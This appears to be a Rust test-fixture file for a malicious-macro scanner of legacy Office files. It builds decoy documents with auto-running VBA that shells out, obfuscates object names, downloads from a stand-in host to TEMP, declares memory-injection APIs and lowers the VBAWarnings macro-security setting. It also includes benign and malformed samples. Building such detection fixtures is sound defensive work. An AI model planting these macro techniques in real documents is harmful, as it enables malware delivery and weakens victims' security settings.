//! Documents of Office 97–2003 around their macros: workbooks ([MS-XLS]), documents ([MS-DOC]), presentations
//! ([MS-PPT]), encrypted ones, and what else is a compound file.

use std::io::Write;

use super::Fixture;
use super::cfb::Cfb;
use super::vba::{Module, add_project, dir, module_stream, vba_project};

fn record(id: u16, body: &[u8]) -> Vec<u8> {
    [&id.to_le_bytes()[..], &(body.len() as u16).to_le_bytes(), body].concat()
}

/// BOF (2.4.21) of the globals.
fn bof() -> Vec<u8> {
    record(0x0809, &[0, 6, 5, 0, 0xBB, 0x0D, 0xCC, 0x07, 0, 0, 0, 0, 6, 0, 0, 0])
}

/// BoundSheet8 (2.4.28).
pub(crate) fn bound_sheet(name: &str, hs_state: u8, dt: u8) -> Vec<u8> {
    let mut body = vec![0, 2, 0, 0, hs_state, dt, name.len() as u8, 0];
    body.extend(name.as_bytes());
    record(0x0085, &body)
}

/// Lbl (2.4.150).
fn lbl(flags: u8, name: &[u8]) -> Vec<u8> {
    let mut body = vec![flags, 0, 0, name.len() as u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    body.extend(name);
    record(0x0018, &body)
}

/// The globals, and behind them an empty substream for each sheet.
fn globals(records: &[Vec<u8>]) -> Vec<u8> {
    let end = record(0x000A, &[]);
    let mut at = bof().len() + records.concat().len() + end.len();
    let (mut out, mut sheets) = (bof(), Vec::new());
    for record in records {
        let mut record = record.clone();
        if record[..2] == [0x85, 0] {
            record[4..8].copy_from_slice(&((at + sheets.len()) as u32).to_le_bytes());
            let mut start = bof();
            start[6] = if record[9] == 1 { 0x40 } else { 0x10 };
            sheets.extend([start, end.clone()].concat());
        }
        out.extend(record);
    }
    at = out.len() + end.len() + sheets.len();
    out.extend([end, sheets].concat());
    out.resize(at.max(4096), 0);
    out
}

pub(crate) fn workbook(records: &[Vec<u8>]) -> Cfb {
    Cfb::new()
        .clsid([0x20, 8, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
        .stream("Workbook", globals(records))
        .stream("\u{5}SummaryInformation", vec![0xFE, 0xFF, 0, 0])
}

/// A Word document: FibBase (2.5.2) and nothing that needs it.
pub(crate) fn document(flags: u16) -> Cfb {
    let mut fib = vec![0xEC, 0xA5, 0xC1, 0, 0, 0, 0x11, 4, 0, 0];
    fib.extend(flags.to_le_bytes());
    fib.resize(4096, 0);
    Cfb::new()
        .clsid([6, 9, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
        .stream("WordDocument", fib)
        .stream("1Table", vec![0; 64])
}

fn ppt_record(ver_instance: u16, kind: u16, body: &[u8]) -> Vec<u8> {
    [&ver_instance.to_le_bytes()[..], &kind.to_le_bytes(), &(body.len() as u32).to_le_bytes(), body].concat()
}

/// A presentation; storages become ExternalOleObjectStg records, compressed.
pub(crate) fn presentation(storages: &[Vec<u8>], header_token: [u8; 4]) -> Cfb {
    let mut stream = ppt_record(0x000F, 0x03E8, &[]); // DocumentContainer
    for storage in storages {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(storage).unwrap();
        let mut body = (storage.len() as u32).to_le_bytes().to_vec(); // decompressedSize
        body.extend(encoder.finish().unwrap());
        stream.extend(ppt_record(0x0010, 0x1011, &body));
    }
    let mut user = vec![0x14, 0, 0, 0];
    user.extend(header_token);
    user.resize(24, 0);
    Cfb::new()
        .clsid([0x10, 0x8D, 0x81, 0x64, 0x9B, 0x4F, 0xCF, 0x11, 0x86, 0xEA, 0, 0xAA, 0, 0xB9, 0x29, 0xE8])
        .stream("PowerPoint Document", stream)
        .stream("Current User", ppt_record(0, 0x0FF6, &user))
}

const PLAIN_TOKEN: [u8; 4] = [0x5F, 0xC0, 0x91, 0xE3];

/// A Packager object ([MS-OLEDS] 2.3.6).
fn native(name: &str, data: &[u8]) -> Vec<u8> {
    let mut body = vec![2, 0];
    body.extend(format!("{name}\0C:\\Users\\a\\{name}\0").into_bytes());
    body.extend([0, 0, 3, 0]);
    body.extend(4_u32.to_le_bytes());
    body.extend(b"C:\\\0");
    body.extend((data.len() as u32).to_le_bytes());
    body.extend(data);
    [&(body.len() as u32).to_le_bytes()[..], &body].concat()
}

fn xls(modules: &[Module]) -> Vec<u8> {
    add_project(workbook(&[bound_sheet("Sheet1", 0, 0)]), "_VBA_PROJECT_CUR/", 1252, modules).build()
}

fn doc(modules: &[Module]) -> Vec<u8> {
    add_project(document(0), "Macros/", 1252, modules).build()
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let mut all = hostile();
    all.extend(honest());
    all.extend(containers());
    all
}

fn hostile() -> Vec<Fixture> {
    let book = |source: &str| Module::document("ThisWorkbook", source);
    let declares = "Private Declare PtrSafe Function fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As LongPtr, _\n ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n";
    let inject = "Private Declare PtrSafe Function room Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As LongPtr) As LongPtr\n\
                  Private Declare PtrSafe Sub fill Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByVal a As LongPtr)\n\
                  Sub AutoOpen()\nfill room(0)\nEnd Sub\n";
    vec![
        Fixture::new(
            "vba-doc-open-shell",
            "invoice.doc",
            doc(&[
                Module::document("ThisDocument", "Private Sub Document_Open()\n    Prepare\nEnd Sub\n"),
                Module::standard(
                    "Module1",
                    "Const first = \"cmd\"\nSub Prepare()\n    Dim c\n    c = first & Chr(46) & \"exe /c echo \" & StrReverse(\"olleh\")\n    Shell c, vbHide\nEnd Sub\n",
                ),
            ]),
        ),
        Fixture::new(
            "vba-xls-open-run",
            "見積書.xls",
            xls(&[
                book("Private Sub Workbook_Open()\n    Application.OnTime Now, \"Later\"\nEnd Sub\n"),
                Module::standard(
                    "M",
                    "Sub Later()\n    With CreateObject(StrReverse(\"llehS.tpircSW\"))\n        .Run \"hello.exe\", 0, False\n    End With\nEnd Sub\n",
                ),
            ]),
        ),
        Fixture::new(
            "vba-xls-hidden-object",
            "list.xls",
            xls(&[book("Private Sub Workbook_Activate()\n    Set o = CreateObject(Sheets(1).Range(\"A1\").Value)\nEnd Sub\n")]),
        ),
        Fixture::new(
            "vba-doc-fetch-and-store",
            "letter.doc",
            doc(&[Module::standard(
                "NewMacros",
                "Sub AutoOpen()\n    Set h = CreateObject(\"MSXML2.XMLHTTP\")\n    h.Open \"GET\", \"http://files.example/a\", False\n    h.Send\n    Set s = CreateObject(\"ADODB.Stream\")\n    s.Write h.responseBody\n    s.SaveToFile Environ(\"TEMP\") & \"\\a.bin\", 2\nEnd Sub\n",
            )]),
        ),
        Fixture::new("vba-doc-inject", "notice.doc", doc(&[Module::standard("M", inject)])),
        Fixture::new(
            "vba-doc-weaken",
            "form.doc",
            doc(&[Module::document(
                "ThisDocument",
                "Private Sub InkPicture1_Painted(ByVal hDC As Long)\n    CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1, \"REG_DWORD\"\nEnd Sub\n",
            )]),
        ),
        Fixture::new(
            "vba-ppt-download",
            "slides.ppt",
            presentation(
                &[vba_project(&[Module::standard(
                    "Module1",
                    &format!("{declares}Sub OnSlideShowPageChange()\n    fetch 0, \"http://files.example/b\", \"b.bin\", 0, 0\nEnd Sub\n"),
                )])],
                PLAIN_TOKEN,
            )
            .build(),
        ),
        Fixture::new(
            "vba-xls-acts-by-hand",
            "tool.xls",
            xls(&[Module::document("Sheet1", "Private Sub CommandButton1_Click()\n    Shell \"tool.exe\"\nEnd Sub\n")]),
        ),
        Fixture::new(
            "vba-xls-auto-run",
            "plan.xls",
            xls(&[book("Private Sub Workbook_Open()\n    MsgBox \"Shell out\" ' Shell \"x\"\nEnd Sub\n")]),
        ),
        Fixture::new("vba-source-missing", "empty.doc", stomped()),
        Fixture::new("vba-damaged", "damaged.doc", document(0).stream("Macros/VBA/dir", vec![0xFF; 600]).build()),
        Fixture::new("vba-unlisted-module", "odd.doc", unlisted()),
        Fixture::new(
            "xlm-very-hidden-auto-open",
            "order.xls",
            workbook(&[bound_sheet("Sheet1", 0, 0), bound_sheet("Macro1", 2, 1), lbl(0x20, b"\x01")]).build(),
        ),
        Fixture::new("xlm-sheet", "old.xls", workbook(&[bound_sheet("Macro1", 0, 1), lbl(0, b"Total")]).build()),
    ]
}

/// A module whose source is gone and whose cache is not.
fn stomped() -> Vec<u8> {
    let module = Module::standard("Module1", "");
    document(0)
        .stream("Macros/VBA/dir", super::vba::compress(&dir(1252, &[module])))
        .stream("Macros/VBA/Module1", vec![0xAA; 6000])
        .build()
}

/// A module that `dir` does not list, behind a cache, and a record of unknown kind in `dir`.
fn unlisted() -> Vec<u8> {
    let mut records = vec![0x77, 0x77, 3, 0, 0, 0, 1, 2, 3];
    records.extend(dir(1252, &[]));
    let module = Module::standard("Hidden", "Sub AutoOpen()\n    Shell \"hidden.exe\"\nEnd Sub\n");
    document(0)
        .stream("Macros/VBA/dir", super::vba::compress(&records))
        .stream("Macros/VBA/Hidden", module_stream(&module, 700))
        .build()
}

fn honest() -> Vec<Fixture> {
    let japanese = Module::standard(
        "集計処理",
        "' 部品表を集計する。Shell や CreateObject は使わない\nSub 集計()\n    Call 一覧作成\nEnd Sub\n\nPrivate Sub 一覧作成()\n    Worksheets(\"一覧\").Range(\"A1\").Value = \"合計\"\nEnd Sub\n",
    );
    vec![
        Fixture::new(
            "vba-honest-database",
            "売上.xls",
            xls(&[
                Module::document("ThisWorkbook", ""),
                Module::standard(
                    "Import",
                    "Sub LoadSales()\n    Set c = CreateObject(\"ADODB.Connection\")\n    c.Open \"Provider=x\"\n    Set f = CreateObject(\"Scripting.FileSystemObject\")\n    f.CreateTextFile(\"C:\\log.txt\").WriteLine \"Run\"\n    ActiveWorkbook.SaveAs \"copy.xls\"\n    Call Report\nEnd Sub\nSub Report()\n    Run \"LoadSales\"\nEnd Sub\n",
                ),
            ]),
        )
        .honest(),
        Fixture::new(
            "vba-honest-event-name-in-standard-module",
            "sample.xls",
            xls(&[Module::standard("Samples", "Sub Workbook_Open()\n    MsgBox \"never called by Excel\"\nEnd Sub\n")]),
        )
        .honest(),
        Fixture::new(
            "vba-honest-words",
            "manual.doc",
            doc(&[Module::standard(
                "Notes",
                "' AutoOpen, Document_Open: Shell \"cmd\", CreateObject(\"WScript.Shell\").Run, URLDownloadToFile _\n  Shell \"still a comment\"\nSub Explain()\n    Rem Shell \"x\"\n    MsgBox \"Shell \"\"powershell\"\" and AutoOpen\"\nEnd Sub\n",
            )]),
        )
        .honest(),
        Fixture::new(
            "vba-honest-japanese",
            "部品表.xls",
            add_project(workbook(&[bound_sheet("Sheet1", 0, 0)]), "_VBA_PROJECT_CUR/", 932, &[japanese]).build(),
        )
        .honest(),
        Fixture::new("xls-honest", "table.xls", workbook(&[bound_sheet("Sheet1", 0, 0), lbl(0x20, b"\x06")]).build()).honest(),
        Fixture::new("doc-honest", "letter.doc", document(0).build()).honest(),
        Fixture::new("ppt-honest", "slides.ppt", presentation(&[], PLAIN_TOKEN).build()).honest(),
    ]
}

/// A document whose root says that its small streams stand where the file no longer is ([MS-CFB] 2.6.3).
fn without_small_streams() -> Vec<u8> {
    let mut bytes = document(0).stream("\u{1}CompObj", vec![0; 80]).build();
    let name: Vec<u8> = "Root Entry".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let root = bytes.windows(name.len()).position(|window| window == name).unwrap();
    bytes[root + 116..root + 120].copy_from_slice(&4096_u32.to_le_bytes()); // Starting Sector Location
    bytes
}

fn containers() -> Vec<Fixture> {
    let mut agile = vec![4, 0, 4, 0, 0x40, 0, 0, 0];
    agile.extend(b"<?xml version=\"1.0\"?><encryption/>");
    let locked_book = workbook(&[record(0x002F, &[1, 0, 1, 0, 1, 0]), bound_sheet("\u{1}\u{2}", 1, 1)]);
    let book_macro = Module::document("ThisWorkbook", "Private Sub Workbook_Open()\n    Shell \"x.exe\"\nEnd Sub\n");
    let mut table = vec![0; 8192];
    table[..8].copy_from_slice(&[2, 0, 2, 0, 4, 0, 0, 0]);
    let mut cut = doc(&[Module::standard("M", &"Sub A()\nEnd Sub\n".repeat(900))]);
    cut.truncate(cut.len() / 2);
    let mut counts = doc(&[Module::standard("M", "Sub AutoOpen()\n    Shell \"x.exe\"\nEnd Sub\n")]);
    counts[44] = 0x7F; // Number of FAT Sectors
    counts[28] = 0; // Byte Order
    vec![
        Fixture::new(
            "office-encrypted-agile",
            "locked.docx",
            Cfb::new().stream("EncryptionInfo", agile).stream("EncryptedPackage", vec![7; 5000]).build(),
        ),
        Fixture::new("doc-small-streams-cut", "minutes.doc", without_small_streams()),
        Fixture::new("doc-encrypted-xor", "locked.doc", document(0x8100).build()),
        Fixture::new("doc-encrypted-cryptoapi", "locked2.doc", document(0x0100).stream("0Table", table).build()),
        Fixture::new(
            "xls-encrypted-with-macros",
            "locked.xls",
            add_project(locked_book, "_VBA_PROJECT_CUR/", 1252, &[book_macro]).build(),
        ),
        Fixture::new("ppt-encrypted", "locked.ppt", presentation(&[], [0xDF, 0xC4, 0xD1, 0xF3]).build()),
        Fixture::new(
            "doc-packager-script",
            "delivery.doc",
            document(0).stream("ObjectPool/_1/\u{1}Ole10Native", native("note.js", b"var inert = 1;\r\n")).build(),
        ),
        Fixture::new("doc-cut", "cut.doc", cut),
        Fixture::new("doc-wrong-counts", "counts.doc", counts),
        Fixture::new(
            "msi-database",
            "setup.msi",
            Cfb::new()
                .clsid([0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
                .stream("a", vec![1; 10])
                .build(),
        ),
        Fixture::new("msg-message", "mail.msg", Cfb::new().stream("__properties_version1.0", vec![0; 32]).build()),
        Fixture::new(
            "hwp-document",
            "letter.hwp",
            Cfb::new().stream("FileHeader", vec![0; 256]).stream("BodyText/Section0", vec![0; 9]).build(),
        ),
        Fixture::new("cfb-short", "short.doc", vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
    ]
}
